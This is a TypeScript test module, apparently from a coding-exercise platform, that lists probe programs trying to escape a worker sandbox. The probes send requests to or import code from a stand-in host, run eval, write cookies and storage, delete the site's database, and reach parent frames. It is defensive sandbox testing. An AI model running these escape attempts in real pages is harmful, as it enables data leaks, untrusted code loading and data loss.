/**
 * Programs that try to leave the sandbox. Each solves the exercise, unless it gets out: then it gives a wrong
 * answer and says on the console what let it. `OUTSIDE` stands for a host that counts who calls.
 */
import type { Program } from "./program.ts";
import { solving } from "./tally.ts";

/** Put in the place of a server's `host:port` before a program runs. */
export const OUTSIDE = "outside.invalid:9";

const NO_SANDBOX = "a terminal has no sandbox: what runs there is the learner's own program";

/** @param work an expression that settles if it got out, and throws or rejects if it did not. */
function escaping(name: string, work: string): Program {
  return {
    name,
    source: solving({
      top: `let out = false;
const patience = new Promise((_, stay) => setTimeout(stay, 300));
try { await Promise.race([(async () => { ${work} })(), patience]); out = true; console.log("out"); } catch {}`,
      next: "if (out) return 'out';",
    }),
    inPage: ["passed"],
    notLocally: NO_SANDBOX,
  };
}

/** Waits for the event that says that a connection is open. */
const opened = (make: string) =>
  `await new Promise((open, fail) => { const it: any = ${make}; it.onopen = open; it.onmessage = open; it.onerror = fail; });`;

export const ESCAPES: readonly Program[] = [
  escaping("fetch", `await fetch("http://${OUTSIDE}/fetch");`),
  escaping("fetch without CORS", `await fetch("http://${OUTSIDE}/no-cors", { mode: "no-cors" });`),
  escaping(
    "fetch that outlives the page",
    `await fetch("http://${OUTSIDE}/keep", { keepalive: true, method: "POST", body: "x" });`,
  ),
  escaping(
    "XMLHttpRequest",
    `const request = new XMLHttpRequest(); request.open("GET", "http://${OUTSIDE}/xhr", false); request.send();`,
  ),
  escaping("a web socket", opened(`new WebSocket("ws://${OUTSIDE}/socket")`)),
  escaping("server-sent events", opened(`new EventSource("http://${OUTSIDE}/events")`)),
  escaping(
    "WebTransport",
    `await new (globalThis as any).WebTransport("https://${OUTSIDE}/").ready;`,
  ),
  escaping(
    "a peer connection",
    "new (globalThis as any).RTCPeerConnection().createDataChannel('x');",
  ),
  escaping(
    "a beacon",
    `if (!(navigator as any).sendBeacon("http://${OUTSIDE}/beacon", "x")) throw 1;`,
  ),
  escaping(
    "an import from a host",
    `await import(/* @vite-ignore */ "http://" + "${OUTSIDE}/module.js");`,
  ),
  escaping(
    "an import of a data address",
    `await import(/* @vite-ignore */ "data:text/javascript" + ",export {}");`,
  ),
  escaping("importScripts", `(globalThis as any).importScripts("http://${OUTSIDE}/script.js");`),
  escaping(
    "a nested worker",
    opened(`new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])))`),
  ),
  escaping("a shared worker", opened(`new SharedWorker("http://${OUTSIDE}/shared.js")`)),
  escaping("a service worker", "await (navigator as any).serviceWorker.register('/sw.js');"),
  escaping(
    "a font from a host",
    `await new (globalThis as any).FontFace("x", "url(http://${OUTSIDE}/font)").load();`,
  ),
  escaping("eval", "(0, eval)('1');"),
  escaping("new Function", "new Function('return 1')();"),
  escaping(
    "a timer with code as text",
    "let ran = false; (globalThis as any).mark = () => { ran = true; }; (setTimeout as any)('mark()', 0); await new Promise((done) => setTimeout(done, 50)); if (!ran) throw 1;",
  ),
  escaping(
    "IndexedDB",
    "await new Promise((open, fail) => { const it = indexedDB.open('minibroker'); it.onsuccess = open; it.onerror = fail; });",
  ),
  escaping(
    "deleting the site's database",
    "await new Promise((open, fail) => { const it = indexedDB.deleteDatabase('minibroker'); it.onsuccess = open; it.onerror = fail; });",
  ),
  escaping("localStorage", "(globalThis as any).localStorage.setItem('escaped', 'yes');"),
  escaping("the cache of pages", "await caches.open('escaped');"),
  escaping("files of the origin", "await navigator.storage.getDirectory();"),
  escaping("cookies", "await (globalThis as any).cookieStore.set('escaped', 'yes');"),
  escaping("locks of the origin", "await navigator.locks.request('x', () => {});"),
  escaping(
    "a broadcast to the site's tabs",
    "new BroadcastChannel('minibroker').postMessage('x');",
  ),
  escaping(
    "parent, top and opener",
    "const g: any = globalThis; (g.parent ?? g.top ?? g.opener ?? g.window ?? g.document).postMessage('x', '*');",
  ),
  escaping("closing the worker", "(globalThis as any).close();"),
  escaping(
    "what is taken away, from its prototype",
    "const scope: any = Object.getPrototypeOf(globalThis); (scope.postMessage ?? scope.close ?? scope.importScripts ?? Object.getPrototypeOf(scope).postMessage ?? Object.getPrototypeOf(scope).importScripts).call(globalThis, 'x');",
  ),
  escaping(
    "a notification",
    "if (Notification.permission !== 'granted') throw 1; new Notification('x');",
  ),
];
